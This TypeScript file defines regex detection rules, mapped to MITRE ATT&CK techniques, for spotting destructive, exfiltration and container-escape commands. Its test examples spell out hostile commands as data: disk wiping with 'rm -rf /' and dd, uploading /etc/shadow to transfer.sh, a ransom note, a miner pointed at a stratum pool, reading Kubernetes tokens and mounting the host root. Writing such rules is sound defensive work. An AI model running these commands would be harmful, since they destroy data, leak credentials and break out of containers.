// Impact, exfiltration and collection rules on commands (DECNET R0032–R0035, R0037, R0038 and
// additions): destruction, ransom notes, uploads to web services, database dumps, cryptominers,
// container secrets and escapes.
import type { RepoRule } from './types';

export const impactRules: RepoRule[] = [
  {
    id: 'R0032', version: 1, name: 'data_destruction', description: 'Whole-file-system deletion, disk wiping or formatting.',
    appliesTo: ['command'], match: { kind: 'pattern', pattern: String.raw`\brm\s+(?:-\S+\s+)*-[a-zA-Z]*[rR][a-zA-Z]*\s+(?:-\S+\s+)*(?:--no-preserve-root\s+)?/(?:\*|\s|$)|\bdd\s+[^;|&]*\bof=/dev/(?:[sv]d[a-z]|nvme\d|xvd[a-z]|hd[a-z]|mmcblk\d)|\bmkfs(?:\.\w+)?\s+(?:-\S+\s+)*/dev/|\bshred\s+(?:-\S+\s+)*\S|\bwipefs\s+-a`, flags: '' },
    emits: [{ tactic: 'impact', technique: 'T1485', confidence: 0.85 }], evidence: ['command'],
    examples: { match: ['rm -rf /', 'rm -rf --no-preserve-root /', 'dd if=/dev/zero of=/dev/sda bs=1M', 'rm -rf /*'], noMatch: ['rm -rf /tmp/build', 'dd if=/dev/zero of=/tmp/file bs=1M count=1'] },
  },
  {
    id: 'R0033', version: 1, name: 'ransom_note', description: 'Ransom notes or bulk file encryption.',
    appliesTo: ['command'], match: { kind: 'pattern', pattern: String.raw`\b(?:bitcoin|btc|monero|xmr)\b.{0,200}?\b(?:decrypt|ransom|recover|restore)|\b(?:decrypt|ransom|recover|restore)\w*\b.{0,200}?\b(?:bitcoin|btc|monero|xmr)\b|\b(?:how_to_decrypt|readme_to_decrypt|restore_files|decrypt_instructions|readme_for_decrypt)|\bopenssl\s+enc\s+-aes[^;|&]*-in\s|\bgpg\s+[^;|&]*--symmetric\b`, flags: 'i' },
    emits: [{ tactic: 'impact', technique: 'T1486', confidence: 0.8 }], evidence: ['command'],
    examples: { match: ['echo "Your files are encrypted. Send 0.5 BTC to recover" > /root/README.txt', 'touch HOW_TO_DECRYPT.txt', 'openssl enc -aes-256-cbc -in db.sql -out db.sql.enc -k x'], noMatch: ['echo hello > README.txt', 'openssl version'] },
  },
  {
    id: 'R0034', version: 1, name: 'exfil_web_service', description: 'Files uploaded with curl/wget or to paste/file-sharing/chat services.',
    appliesTo: ['command'], match: { kind: 'pattern', pattern: String.raw`\bcurl\b[^;|&]{0,200}?(?:\s-T\s|--upload-file\b|\s-F\s+\S*=@|--data-binary\s+@|\s-d\s+@)|\bwget\b[^;|&]{0,200}?--post-file\b|\btransfer\.sh\b|pastebin\.com/api|\bfile\.io\b|api\.telegram\.org/bot|discord(?:app)?\.com/api/webhooks`, flags: 'i' },
    emits: [{ tactic: 'exfiltration', technique: 'T1567', confidence: 0.8 }], evidence: ['command'],
    examples: { match: ['curl -T /etc/shadow https://transfer.sh/s', 'curl -F "f=@/root/db.sql" http://203.0.113.9/u'], noMatch: ['curl http://example.com', 'wget http://x/y'] },
  },
  {
    id: 'R0035', version: 1, name: 'database_dump', description: 'Bulk reads of a database: dumps, SELECT * of whole tables, redis KEYS *.',
    appliesTo: ['command'], match: { kind: 'pattern', pattern: String.raw`\b(?:mysqldump|pg_dump(?:all)?|mongodump|mongoexport)\b|\bselect\s+\*\s+from\s+[\w.\x60"]+\s*(?:;|$)|^KEYS\s+\*\s*$|\bredis-cli\b[^;|&]*--scan\b`, flags: 'i' },
    emits: [{ tactic: 'collection', technique: 'T1213', confidence: 0.6 }], evidence: ['command'],
    examples: { match: ['mysqldump -u root --all-databases > a.sql', 'KEYS *', 'SELECT * FROM users;'], noMatch: ['KEYS session:*', 'SELECT * FROM users WHERE id = 1'] },
  },
  {
    id: 'R0108', version: 1, name: 'cryptominer', description: 'Cryptocurrency miners and their pool URLs.',
    appliesTo: ['command'], match: { kind: 'pattern', pattern: String.raw`\b(?:xmrig|minerd|cpuminer|cgminer|kdevtmpfsi|kinsing|nbminer|t-rex)\b|stratum\+(?:tcp|ssl)://|\bnicehash\b|--donate-level\b`, flags: 'i' },
    emits: [{ tactic: 'impact', technique: 'T1496', confidence: 0.9 }], evidence: ['command'],
    examples: { match: ['./xmrig -o stratum+tcp://pool.example:3333 -u 4A...', 'nohup ./kinsing &'], noMatch: ['./configure && make', 'top'] },
  },
  {
    id: 'R0037', version: 1, name: 'k8s_service_account_token', description: 'Kubernetes service-account tokens or secrets read (in-pod path or the API).',
    appliesTo: ['command', 'url'], match: { kind: 'pattern', pattern: String.raw`/var/run/secrets/kubernetes\.io/serviceaccount|/api/v1/(?:namespaces/[^/\s]+/)?secrets\b`, flags: '' },
    emits: [{ tactic: 'credential-access', technique: 'T1552', subTechnique: 'T1552.007', confidence: 0.85 }], evidence: ['command', 'url'],
    examples: { match: ['cat /var/run/secrets/kubernetes.io/serviceaccount/token', '/api/v1/namespaces/kube-system/secrets', '/api/v1/secrets'], noMatch: ['/api/v1/namespaces', '/api/v1/pods'] },
  },
  {
    id: 'R0038', version: 1, name: 'container_escape', description: 'Container escape primitives: privileged or host-root containers, nsenter into PID 1, the docker socket.',
    appliesTo: ['command'], match: { kind: 'pattern', pattern: String.raw`\bdocker\s+run\b[^;|&]*(?:--privileged|-v\s+/:/|--pid[= ]host)|\bnsenter\s+(?:-\S+\s+)*(?:-t\s*1|--target[= ]1)\b|/var/run/docker\.sock|\bchroot\s+/(?:host|mnt)\b`, flags: '' },
    emits: [{ tactic: 'privilege-escalation', technique: 'T1611', confidence: 0.8 }], evidence: ['command'],
    examples: { match: ['docker run -v /:/mnt --rm -it alpine chroot /mnt sh', 'nsenter -t 1 -m -u -i -n sh', 'curl --unix-socket /var/run/docker.sock http://x/containers/json'], noMatch: ['docker ps', 'docker run hello-world'] },
  },
];
